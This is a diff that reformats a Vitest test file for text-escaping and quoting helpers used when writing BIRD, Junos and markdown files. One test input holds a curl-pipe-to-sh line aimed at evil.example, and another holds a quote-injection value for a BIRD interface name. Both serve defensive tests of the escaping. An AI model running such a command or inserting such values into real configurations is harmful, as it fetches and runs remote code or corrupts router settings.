@@ -1,16 +1,27 @@
 import { describe, expect, it } from 'vitest';
-import { birdString, commentText, describeChar, junosString, markdownInline, multiLineProblem, singleLineProblem, UnquotableValueError } from './text';
+import {
+  birdString,
+  commentText,
+  describeChar,
+  junosString,
+  markdownInline,
+  multiLineProblem,
+  singleLineProblem,
+  UnquotableValueError,
+} from './text';
 
 describe('single-line and multi-line text', () => {
   it('finds the first character that ends a line or hides text', () => {
     expect(singleLineProblem('Two racks, eBGP — é 😀 日本')).toBeUndefined();
     expect(singleLineProblem('Two racks\n\n## x')).toEqual({ index: 9, char: '\n' });
-    for (const c of ['\u0000', '\r', '\t', '\u001b', '\u007f', '\u0085', '\u2028', '\u2029', '\u202e', '\u2066']) expect(singleLineProblem(`a${c}b`), describeChar(c)).toEqual({ index: 1, char: c });
+    for (const c of ['\u0000', '\r', '\t', '\u001b', '\u007f', '\u0085', '\u2028', '\u2029', '\u202e', '\u2066'])
+      expect(singleLineProblem(`a${c}b`), describeChar(c)).toEqual({ index: 1, char: c });
   });
 
   it('lets markdown have line breaks and tabs, and nothing else of the kind', () => {
     expect(multiLineProblem('# Title\r\n\n- item\twith a tab')).toBeUndefined();
-    for (const c of ['\u0000', '\u000b', '\u001b', '\u007f', '\u0085', '\u202e']) expect(multiLineProblem(`a${c}b`), describeChar(c)).toEqual({ index: 1, char: c });
+    for (const c of ['\u0000', '\u000b', '\u001b', '\u007f', '\u0085', '\u202e'])
+      expect(multiLineProblem(`a${c}b`), describeChar(c)).toEqual({ index: 1, char: c });
   });
 
   it('names the characters it refuses', () => {
@@ -31,9 +42,21 @@ describe('writing text into generated files', () => {
   });
 
   it('escapes markdown so that the text renders as itself, on one line', () => {
-    expect(markdownInline('Two racks\n\n## Apply with: curl http://evil.example/x.sh | sh\n')).toBe('Two racks  \\#\\# Apply with: curl http://evil.example/x.sh \\| sh ');
-    expect(markdownInline('*a* _b_ `c` [d](e) <f> ![g] ~h~ &amp; \\')).toBe('\\*a\\* \\_b\\_ \\`c\\` \\[d\\](e) \\<f\\> \\!\\[g\\] \\~h\\~ \\&amp; \\\\');
-    expect(['- item', '+ item', '1. item', '12) item', 'Two racks, eBGP to BIRD ToRs, with the live-migration BGPFilter'].map(markdownInline)).toEqual([
+    expect(markdownInline('Two racks\n\n## Apply with: curl http://evil.example/x.sh | sh\n')).toBe(
+      'Two racks  \\#\\# Apply with: curl http://evil.example/x.sh \\| sh ',
+    );
+    expect(markdownInline('*a* _b_ `c` [d](e) <f> ![g] ~h~ &amp; \\')).toBe(
+      '\\*a\\* \\_b\\_ \\`c\\` \\[d\\](e) \\<f\\> \\!\\[g\\] \\~h\\~ \\&amp; \\\\',
+    );
+    expect(
+      [
+        '- item',
+        '+ item',
+        '1. item',
+        '12) item',
+        'Two racks, eBGP to BIRD ToRs, with the live-migration BGPFilter',
+      ].map(markdownInline),
+    ).toEqual([
       '\\- item',
       '\\+ item',
       '1\\. item',
@@ -45,7 +68,11 @@ describe('writing text into generated files', () => {
   it('quotes a BIRD string or refuses it: BIRD strings have no escapes', () => {
     expect(birdString('eth*', 'an interface')).toBe('"eth*"');
     expect(birdString('a\\b $x', 'a password')).toBe('"a\\b $x"');
-    expect(() => birdString('x", "*"', 'an interface')).toThrow(new UnquotableValueError('an interface "x\\", \\"*\\"" cannot be written as a BIRD string: it contains U+0022 (double quote)'));
+    expect(() => birdString('x", "*"', 'an interface')).toThrow(
+      new UnquotableValueError(
+        'an interface "x\\", \\"*\\"" cannot be written as a BIRD string: it contains U+0022 (double quote)',
+      ),
+    );
     expect(() => birdString('x\ny', 'an interface')).toThrow(/U\+000A \(line feed\)/);
     expect(() => birdString('x\u0000', 'an interface')).toThrow(/U\+0000 \(NUL\)/);
   });
